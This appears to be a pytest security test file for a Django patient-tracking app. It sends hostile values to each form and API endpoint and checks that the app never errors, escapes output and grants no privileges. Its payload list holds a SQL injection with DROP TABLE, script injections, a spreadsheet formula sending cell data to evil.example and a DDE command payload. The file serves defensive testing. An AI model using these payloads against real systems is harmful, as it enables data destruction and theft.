"""Hostile input: every form and endpoint, every kind of bad value. Never a 500, nothing wrong kept.

To cover a new form or endpoint, add one line to ENDPOINTS: how to reach it (a URL built from the
`World` of standing users), who sends it, and a valid body. Each field of the body is then sent
in turn with each value in HOSTILE_VALUES, the body is sent with extra fields that must be
ignored (`id`, `patient`, `is_staff`, ...), and a 3 MB body must be refused with 400. JSON
endpoints set `json=True`. See docs/security.md for what is covered and what remains.
"""

import datetime as dt
import json
import math
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote_plus

import pytest
from django.contrib.auth.tokens import default_token_generator
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode
from django_otp.plugins.otp_totp.models import TOTPDevice

from tests.factories import PASSWORD, ClinicFactory, PatientFactory, UserFactory
from tests.helpers import patient_form_data
from tracker.models import AuditEvent, Patient, Role, User
from tracker.services.people import invite_create

pytestmark = pytest.mark.django_db


@dataclass
class World:
    """The standing users and records every hostile request is aimed at or must not touch."""

    patient: Patient
    other_patient: Patient
    clinician: User
    foreign_clinician: User
    clinic_admin: User
    invite_token: str
    reset_uid: str
    reset_token: str


@dataclass(frozen=True)
class Hostile:
    """One hostile value: as form text, and (for JSON bodies) as a JSON value."""

    text: str | Callable[[World], str]
    json_value: Any = None

    def as_text(self, world: World) -> str:
        return self.text(world) if callable(self.text) else self.text

    def as_json(self, world: World) -> Any:
        return self.as_text(world) if self.json_value is None else self.json_value


HOSTILE_VALUES = {
    "negative": Hostile("-1", -1),
    "out-of-range": Hostile("11", 11),
    "huge-integer": Hostile("9" * 30, 10**30),
    "fraction": Hostile("2.5", 2.5),
    "word-for-number": Hostile("ten"),
    "nan": Hostile("NaN", math.nan),
    "overflowing-float": Hostile("1e309", math.inf),
    "impossible-date": Hostile("2026-02-30"),
    "far-past-date": Hostile("0001-01-01"),
    "far-future-date": Hostile("9999-12-31"),
    "five-digit-year": Hostile("20260-01-01"),
    "null-byte": Hostile("abc\x00def"),
    "lone-surrogate": Hostile("abc\ud800def"),
    "rtl-override": Hostile("Maya\u202egnp.exe"),
    "sql-payload": Hostile("x' OR '1'='1'; DROP TABLE tracker_patient; --"),
    "script-payload": Hostile("<script>alert(1)</script>"),
    "end-script-in-json": Hostile('</script><script>alert(1)</script>{"a":1}'),
    "csv-formula": Hostile('=HYPERLINK("http://evil.example/?d="&A1,"open")'),
    "csv-dde": Hostile("+cmd|' /C calc'!A0"),
    "very-long": Hostile("x" * 20_000),
    "blank": Hostile("   "),
    "other-patients-id": Hostile(lambda w: str(w.other_patient.pk)),
    "foreign-clinicians-id": Hostile(lambda w: str(w.foreign_clinician.pk)),
    "list-instead-of-value": Hostile("[1, 2]", [1, 2]),
}

# Never allowed to appear unescaped in any page.
RAW_SCRIPT = "<script>alert(1)"

EXTRA_FIELDS = {
    "id": lambda w: str(w.other_patient.pk),
    "pk": lambda w: str(w.other_patient.pk),
    "patient": lambda w: str(w.other_patient.pk),
    "user": lambda w: str(w.other_patient.user_id),
    "clinic": lambda w: str(w.foreign_clinician.clinic_id),
    "role": lambda w: Role.CLINIC_ADMIN,
    "is_staff": lambda w: "on",
    "is_superuser": lambda w: "on",
    "created_at": lambda w: "2000-01-01T00:00:00Z",
}


@dataclass(frozen=True)
class Endpoint:
    url: Callable[[World, Client], str]
    body: Callable[[World], dict[str, Any]]
    as_user: str | None = None  # a World attribute; None is anonymous
    method: str = "post"
    json: bool = False
    skip_fields: tuple[str, ...] = field(default=())
    only_fields: tuple[str, ...] = field(default=())

    def fields_to_attack(self, body: dict[str, Any]) -> list[str]:
        names = [name for name in body if name not in self.skip_fields]
        return [name for name in names if name in self.only_fields] if self.only_fields else names


def _reset_url(world: World, client: Client) -> str:
    # The emailed link stores the token in the session and redirects to the form's URL.
    url = reverse("password_reset_confirm", args=[world.reset_uid, world.reset_token])
    return client.get(url)["Location"]


def _days_ago(days: int) -> str:
    return (timezone.localdate() - dt.timedelta(days=days)).isoformat()


NEW_PASSWORD = "blue-river-kite-2026"

ENDPOINTS = {
    "login": Endpoint(
        lambda w, c: reverse("login"), lambda w: {"username": "maya", "password": PASSWORD}
    ),
    "invite-accept": Endpoint(
        lambda w, c: reverse("tracker:invite_accept", args=[w.invite_token]),
        lambda w: {"username": "ella", "password1": NEW_PASSWORD, "password2": NEW_PASSWORD},
    ),
    "password-reset": Endpoint(
        lambda w, c: reverse("password_reset"), lambda w: {"email": "maya@example.org"}
    ),
    "password-reset-confirm": Endpoint(
        _reset_url, lambda w: {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD}
    ),
    "password-change": Endpoint(
        lambda w, c: reverse("password_change"),
        lambda w: {
            "old_password": PASSWORD,
            "new_password1": NEW_PASSWORD,
            "new_password2": NEW_PASSWORD,
        },
        as_user="patient_user",
    ),
    "patient-add": Endpoint(
        lambda w, c: reverse("tracker:patient_add"),
        lambda w: {
            "first_name": "Ella",
            "last_name": "Brooks",
            "email": "ella@example.org",
            "date_of_birth": "2011-01-23",
            "sport": "Ballet",
            "conservative_care_started": _days_ago(10),
            "spondylolisthesis": "on",
            "slip_grade": "1",
            "diagnosis_notes": "CT: bilateral L5 pars defects.",
            "treating_clinician": str(w.clinician.pk),
            "care_team": [str(w.clinician.pk)],
            "time_zone": "",
        },
        as_user="clinician",
        # One field of each kind (patient-edit sends the rest): each request renders a
        # 600-option time-zone list, so every field costs about 0.1 s per value.
        skip_fields=(
            "last_name",
            "email",
            "sport",
            "spondylolisthesis",
            "diagnosis_notes",
            "conservative_care_started",
        ),
    ),
    "patient-edit": Endpoint(
        lambda w, c: reverse("tracker:patient_edit", args=[w.patient.pk]),
        lambda w: patient_form_data(w.patient),
        as_user="clinician",
        # The same form as patient-add, which sends the other fields.
        only_fields=("email", "diagnosis_notes", "conservative_care_started"),
    ),
    "patient-list": Endpoint(
        lambda w, c: reverse("tracker:patient_list"),
        lambda w: {"show": "all"},
        as_user="clinician",
        method="get",
    ),
    "two-factor-setup": Endpoint(
        lambda w, c: reverse("tracker:two_factor_setup"),
        lambda w: {"code": "123456"},
        as_user="clinician",
    ),
    "two-factor-verify": Endpoint(
        lambda w, c: reverse("tracker:two_factor_verify"),
        lambda w: {"code": "123456", "next": "/patients/"},
        as_user="clinic_admin",
    ),
    "audit-log-search": Endpoint(
        lambda w, c: reverse("tracker:audit_log"),
        lambda w: {
            "user": str(w.clinician.pk),
            "patient": str(w.patient.pk),
            "date_from": _days_ago(7),
            "date_to": _days_ago(0),
        },
        as_user="clinic_admin",
        method="get",
    ),
    "api-checkin": Endpoint(
        lambda w, c: reverse("api:checkin_day", args=[_days_ago(1)]),
        lambda w: {
            "pain_now": 3,
            "pain_worst": 5,
            "activities": {"walking": 2},
            "medicine": "paracetamol",
            "medicine_doses": 2,
            "note": "Stiff.",
            "saddle_numbness": False,
            "bladder_bowel": False,
            "leg_weakness_worse": False,
            "sections": {},
        },
        as_user="patient_user",
        method="put",
        json=True,
    ),
    "api-checkin-list": Endpoint(
        lambda w, c: reverse("api:checkin_list"),
        lambda w: {"date_from": _days_ago(7), "date_to": _days_ago(0), "page_size": "10"},
        as_user="patient_user",
        method="get",
    ),
    "api-programme": Endpoint(
        lambda w, c: reverse("api:programme"),
        lambda w: {"day": _days_ago(0)},
        as_user="patient_user",
        method="get",
    ),
    "api-trends": Endpoint(
        lambda w, c: reverse("api:patient_trends", args=[w.patient.pk]),
        lambda w: {"weeks": "12"},
        as_user="clinician",
        method="get",
    ),
    "api-fhir": Endpoint(
        lambda w, c: reverse("api:patient_fhir", args=[w.patient.pk]),
        lambda w: {"format": "json"},
        as_user="clinician",
        method="get",
    ),
}


@pytest.fixture
def world(patient, other_patient, clinician, foreign_clinician, clinic_admin, clinic) -> World:
    new_user = UserFactory(username="ella.brooks", is_active=False)
    new_patient = PatientFactory(user=new_user, clinic=clinic, treating_clinician=clinician)
    _, token = invite_create(patient=new_patient, created_by=clinician)
    # The administrator has an authenticator, so the verify form is live for them.
    TOTPDevice.objects.create(user=clinic_admin, name="Authenticator app", confirmed=True)
    return World(
        patient=patient,
        other_patient=other_patient,
        clinician=clinician,
        foreign_clinician=foreign_clinician,
        clinic_admin=clinic_admin,
        invite_token=token,
        reset_uid=urlsafe_base64_encode(force_bytes(patient.user.pk)),
        reset_token=default_token_generator.make_token(patient.user),
    )


def _encode_form(data: dict[str, Any]) -> str:
    """URL-encode like a browser would, but let lone surrogates through as raw bytes."""
    pairs = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            raw = str(item).encode("utf-8", "surrogatepass")
            pairs.append(f"{quote_plus(key)}={quote_plus(raw)}")
    return "&".join(pairs)


def _send(client: Client, endpoint: Endpoint, url: str, body: dict[str, Any], **extra: Any):
    if endpoint.json:
        payload = json.dumps(body).encode()
        return client.generic(endpoint.method.upper(), url, payload, "application/json", **extra)
    encoded = _encode_form(body)
    if endpoint.method == "get":
        return client.get(f"{url}?{encoded}", **extra)
    return client.generic(
        endpoint.method.upper(), url, encoded.encode(), "application/x-www-form-urlencoded", **extra
    )


def _sign_in(client: Client, endpoint: Endpoint, world: World) -> None:
    if endpoint.as_user == "patient_user":
        client.force_login(world.patient.user)
    elif endpoint.as_user:
        client.force_login(getattr(world, endpoint.as_user))


def _privileges() -> set[tuple]:
    return set(User.objects.values_list("pk", "is_staff", "is_superuser", "role", "clinic_id"))


def _assert_privileges_kept(before: set[tuple]) -> None:
    """Nobody gained a privilege; anyone new (an added patient) is a plain patient."""
    after = _privileges()
    assert before <= after
    for _, is_staff, is_superuser, role, clinic_id in after - before:
        assert (is_staff, is_superuser, role, clinic_id) == (False, False, Role.PATIENT, None)


def _untouchable(world: World) -> tuple:
    """What no hostile request may change: the other patient's record, and its care team."""
    other = Patient.objects.select_related("user").get(pk=world.other_patient.pk)
    return (
        other.user.get_full_name(),
        other.user.username,
        other.clinic_id,
        other.treating_clinician_id,
        other.sport,
        other.diagnosis_notes,
        set(other.memberships.values_list("clinician_id", flat=True)),
    )


def _assert_safe(response, what: str) -> None:
    chain = [response, *getattr(response, "_followed", [])]
    for answer in chain:
        assert answer.status_code < 500, f"{what}: {answer.status_code}"
        if answer.get("Content-Type", "").startswith("text/html"):
            assert RAW_SCRIPT not in answer.content.decode(errors="replace"), what


def _nothing_stored_with_null_bytes() -> None:
    for patient in Patient.objects.select_related("user"):
        texts = [patient.sport, patient.diagnosis_notes, patient.user.first_name]
        texts += [patient.user.last_name, patient.user.username, patient.user.email]
        assert not any("\x00" in text for text in texts)


def _follow(client: Client, response):
    """Follow redirects by GET, as a browser would, keeping every page to check."""
    followed = []
    while response.status_code in {301, 302, 303} and len(followed) < 5:
        response = client.get(response["Location"])
        followed.append(response)
    return followed


@pytest.mark.parametrize("value_name", HOSTILE_VALUES)
@pytest.mark.parametrize("endpoint_name", ENDPOINTS)
def test_it_answers_each_hostile_value_with_a_4xx_or_a_form_error(
    client, world, endpoint_name, value_name
):
    endpoint, hostile = ENDPOINTS[endpoint_name], HOSTILE_VALUES[value_name]
    privileges, untouchable = _privileges(), _untouchable(world)
    valid = endpoint.body(world)

    for name in endpoint.fields_to_attack(valid):
        client.logout()
        _sign_in(client, endpoint, world)
        url = endpoint.url(world, client)
        value = hostile.as_json(world) if endpoint.json else hostile.as_text(world)
        response = _send(client, endpoint, url, valid | {name: value}, REMOTE_ADDR="198.51.100.7")
        response._followed = _follow(client, response)

        _assert_safe(response, f"{endpoint_name}.{name}={value_name}")
    _assert_privileges_kept(privileges)
    assert _untouchable(world) == untouchable
    _nothing_stored_with_null_bytes()


@pytest.mark.parametrize("endpoint_name", ENDPOINTS)
def test_it_ignores_extra_fields_that_name_records_or_privileges(client, world, endpoint_name):
    endpoint = ENDPOINTS[endpoint_name]
    privileges, untouchable = _privileges(), _untouchable(world)
    _sign_in(client, endpoint, world)
    extra = {name: make(world) for name, make in EXTRA_FIELDS.items()}

    response = _send(client, endpoint, endpoint.url(world, client), endpoint.body(world) | extra)
    response._followed = _follow(client, response)

    _assert_safe(response, endpoint_name)
    _assert_privileges_kept(privileges)
    assert _untouchable(world) == untouchable
    assert not Patient.objects.filter(clinic=world.foreign_clinician.clinic).exists()


@pytest.mark.parametrize(
    "endpoint_name", [name for name, e in ENDPOINTS.items() if e.method != "get"]
)
def test_it_refuses_a_3_mb_body_or_too_many_fields_with_400(client, world, endpoint_name):
    endpoint = ENDPOINTS[endpoint_name]
    _sign_in(client, endpoint, world)
    url = endpoint.url(world, client)
    body = endpoint.body(world)
    first = next(iter(body))

    big = _send(client, endpoint, url, body | {first: "x" * (3 * 1024 * 1024)})
    many = _send(client, endpoint, url, body | {f"f{i}": "1" for i in range(1500)})

    assert big.status_code == 400
    assert many.status_code == 400


PATIENT_ID_URLS = [
    "tracker:patient_detail",
    "tracker:patient_edit",
    "tracker:patient_invite",
]


@pytest.mark.parametrize("url_name", PATIENT_ID_URLS)
@pytest.mark.parametrize("patient_id", ["other", "0", "9" * 30])
def test_it_answers_404_to_other_or_impossible_ids_in_urls(
    clinician_client, world, url_name, patient_id
):
    pk = world.other_patient.pk if patient_id == "other" else int(patient_id)

    response = clinician_client.get(reverse(url_name, args=[pk]))

    assert response.status_code == 404
    assert not AuditEvent.objects.filter(patient=world.other_patient).exists()


def test_it_keeps_hostile_text_verbatim_and_escaped(clinician_client, world):
    text = HOSTILE_VALUES["end-script-in-json"].as_text(world)
    data = patient_form_data(world.patient) | {"sport": text}

    response = clinician_client.post(
        reverse("tracker:patient_edit", args=[world.patient.pk]), data, follow=True
    )

    world.patient.refresh_from_db()
    assert world.patient.sport == text
    assert RAW_SCRIPT not in response.text
    assert "&lt;/script&gt;" in response.text


def test_it_never_stores_a_foreign_clinic(client, world):
    other_clinic = ClinicFactory(name="Third Clinic")

    client.force_login(world.clinician)
    client.post(
        reverse("tracker:patient_add"),
        ENDPOINTS["patient-add"].body(world) | {"clinic": str(other_clinic.pk)},
    )

    assert not Patient.objects.filter(clinic=other_clinic).exists()
